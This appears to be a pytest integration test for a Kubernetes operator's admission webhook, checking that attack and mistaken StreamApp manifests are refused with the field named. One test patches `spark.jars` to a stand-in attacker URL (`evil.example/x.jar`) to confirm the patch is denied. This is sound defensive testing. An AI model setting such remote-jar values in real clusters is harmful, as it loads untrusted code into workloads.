"""The admission webhook on the real API server: `kubectl apply` refuses what `streamapp validate`
refuses (the API's checks and the cluster's policy), naming the field and why, and admits the examples.

One operator for this module serves the webhook (HTTPS on loopback, its own CA injected into a
ValidatingWebhookConfiguration that selects only the module's namespace) and watches a second
namespace the webhook does not select: what slips past admission is marked invalid by the reconcile.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from streamapp_testkit.operator_bed import EXAMPLES, Cluster, OperatorProcess, unique
from streamapp_testbed.waiting import wait_for

from streamapp_testbed.manifests import MANIFESTS, header, manifests
from streamapp_testbed.process import free_port

pytestmark = pytest.mark.integration
WEBHOOK = "validate-streamapp.streamapp.io"


# What the webhook must refuse: every attack, every user mistake, and every invalid manifest that only
# `streamapp validate` caught before (the CRD schema refuses the others itself: test_api_server.py).
REFUSED = [*(p for p in manifests("attacks") if header(p)["refused-by"] == "validate"), *manifests("mistakes"),
           *(p for p in manifests("invalid") if header(p)["refused-by"] == "validate")]
# Files that are no manifest once read (alias bombs, nesting beyond any reader): kubectl refuses them
# itself, one at a time (a file kubectl cannot read stops the whole apply).
UNREADABLE = [p for p in manifests("attacks") if header(p)["refused-by"] == "yaml"]


def webhook_configuration(name: str, namespace: str, port: int) -> dict:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [{
            "name": WEBHOOK, "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Fail",
            "timeoutSeconds": 10,
            "namespaceSelector": {"matchExpressions": [
                {"key": "kubernetes.io/metadata.name", "operator": "In", "values": [namespace]}]},
            "rules": [{"apiGroups": ["streamapp.io"], "apiVersions": ["v1alpha1"], "resources": ["streamapps"],
                       "operations": ["CREATE", "UPDATE"], "scope": "Namespaced"}],
            "clientConfig": {"url": f"https://127.0.0.1:{port}/validate-streamapp"},  # no caBundle: the operator's
        }],
    }


class Admission:
    def __init__(self, checked: Cluster, unchecked: Cluster, operator: OperatorProcess, bootstrap: str):
        self.checked, self.unchecked, self.operator, self.bootstrap = checked, unchecked, operator, bootstrap

    def apply(self, *paths: Path, dry_run: bool = True):
        argv = ["apply", *(["--dry-run=server"] if dry_run else [])]
        for path in paths:
            argv += ["-f", str(path)]
        return self.checked.kubectl(*argv, check=False)


@pytest.fixture(scope="module")
def admission(control_plane, kwok, kafka, streamapp_crd, tmp_path_factory) -> Iterator[Admission]:
    checked, unchecked = unique("adm"), unique("adm-free")
    for namespace in (checked, unchecked):
        control_plane.kubectl("create", "namespace", namespace)
    port, name = free_port(), f"streamapp-test-{checked}"
    control_plane.kubectl("apply", "-f", "-", input=json.dumps(webhook_configuration(name, checked, port)))
    operator = OperatorProcess(tmp_path_factory.mktemp("admission"), checked, control_plane.kubeconfig)
    operator.argv += ["--namespace", unchecked, "--webhook-port", str(port), "--webhook-address", "127.0.0.1",
                      "--webhook-host", "127.0.0.1", "--webhook-configuration", name]
    operator.start()
    result = Admission(Cluster(control_plane, checked), Cluster(control_plane, unchecked), operator, kafka.bootstrap)
    try:
        wait_for("the operator's CA in the webhook configuration", lambda: control_plane.kubectl(
            "get", "validatingwebhookconfiguration", name, "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}",
            check=False).stdout.strip(), timeout=60)
        probe = REFUSED[0]
        wait_for("the webhook answering", lambda: WEBHOOK in result.apply(probe).stderr, timeout=60)
        yield result
    except BaseException:
        print(f"operator log:\n{operator.log_tail(80)}")
        raise
    finally:
        operator.stop()
        control_plane.kubectl("delete", "validatingwebhookconfiguration", name, "--wait=false", check=False)
        for namespace in (checked, unchecked):
            control_plane.kubectl("delete", "namespace", namespace, "--wait=false", check=False)


def refusals(stderr: str) -> dict[str, str]:
    """kubectl's error per manifest file: path -> the server's message."""
    out = {}
    for line in stderr.splitlines():
        match = re.search(r'error when (?:creating|patching|retrieving[^"]*) "([^"]+)": (.*)$', line)
        if match:
            out[str(Path(match.group(1)).resolve())] = match.group(2)
    return out


def test_every_attack_and_mistake_is_refused_at_apply_naming_the_field(admission):
    assert len([p for p in REFUSED if p.parent.name == "attacks"]) >= 25
    result = admission.apply(*REFUSED)
    refused = refusals(result.stderr)
    by_webhook, suggestions, problems = 0, 0, []
    for path in REFUSED:
        fields, message = header(path), refused.get(str(path.resolve()))
        if message is None:
            problems.append(f"{path.name}: admitted")
            continue
        if f'admission webhook "{WEBHOOK}" denied the request' in message:
            by_webhook += 1
            if fields["expect"] not in message or fields["message"].lower() not in message.lower():
                problems.append(f"{path.name}: refused without naming {fields['expect']} / {fields['message']!r}: {message}")
        elif path.parent.name == "attacks" or fields["expect"].rsplit(".", 1)[-1].split("[")[0] not in message:
            # Only the API server's own strict field validation may refuse first (an unknown field).
            problems.append(f"{path.name}: refused, but not by the webhook: {message}")
        suggestions += "did you mean" in message
    assert not problems, "\n".join(problems)
    assert by_webhook >= len(REFUSED) - 5
    assert suggestions >= 15, f"only {suggestions} refusals say 'did you mean'"


@pytest.mark.parametrize("path", UNREADABLE, ids=lambda p: p.stem)
def test_a_file_that_is_no_manifest_creates_nothing(admission, path):
    result = admission.apply(path)
    assert result.returncode != 0 and "created" not in result.stdout, result.stdout


def test_the_examples_are_admitted(admission):
    result = admission.apply(*sorted(EXAMPLES.glob("*.yaml")))
    assert result.returncode == 0, result.stderr
    assert "created (server dry run)" in result.stdout


def test_an_update_is_judged_by_its_spec(admission):
    """A change of the spec is checked like a create; a change of labels or annotations of an app that
    is in the cluster is not refused (the operator writes its own annotations on every app)."""
    app = yaml.safe_load((EXAMPLES / "word-count.yaml").read_text())
    app["metadata"] = {"name": "updated", "namespace": admission.checked.namespace}
    app["spec"]["kafka"]["bootstrapServers"] = admission.bootstrap  # the operator looks its topics up
    admission.checked.apply(app)
    denied = admission.checked.kubectl("patch", "streamapp", "updated", "--type=merge", "-p",
                                       json.dumps({"spec": {"sparkConf": {"spark.jars": "https://evil.example/x.jar"}}}),
                                       check=False)
    assert denied.returncode != 0 and "spec.sparkConf[spark.jars]" in denied.stderr and "loads code" in denied.stderr
    admission.checked.kubectl("annotate", "streamapp", "updated", "team=streaming")
    admission.checked.kubectl("patch", "streamapp", "updated", "--type=merge", "-p",
                              json.dumps({"spec": {"sparkConf": {"spark.sql.session.timeZone": "UTC"}}}))
    assert admission.checked.app("updated")["spec"]["sparkConf"] == {**app["spec"].get("sparkConf", {}),
                                                                    "spark.sql.session.timeZone": "UTC"}


def test_an_app_that_slipped_past_admission_is_marked_invalid_by_the_operator(admission):
    """Where the webhook does not look (a namespace outside its selector, a failurePolicy of Ignore while
    the operator was down), the reconcile applies the same policy and says why in status."""
    app = yaml.safe_load((MANIFESTS / "attacks" / "03-spark-jars-from-url.yaml").read_text())
    app["metadata"]["namespace"] = admission.unchecked.namespace
    app["spec"]["kafka"]["bootstrapServers"] = admission.bootstrap
    admission.unchecked.apply(app)
    name = app["metadata"]["name"]
    condition = wait_for("SpecValid=False", lambda: (c := admission.unchecked.condition(name, "SpecValid"))
                         and c.get("status") == "False" and c, timeout=30)
    assert "spec.sparkConf[spark.jars]" in condition["message"] and "loads code" in condition["message"]
    assert admission.unchecked.status(name)["phase"] == "Invalid"
    assert admission.unchecked.driver(name) is None
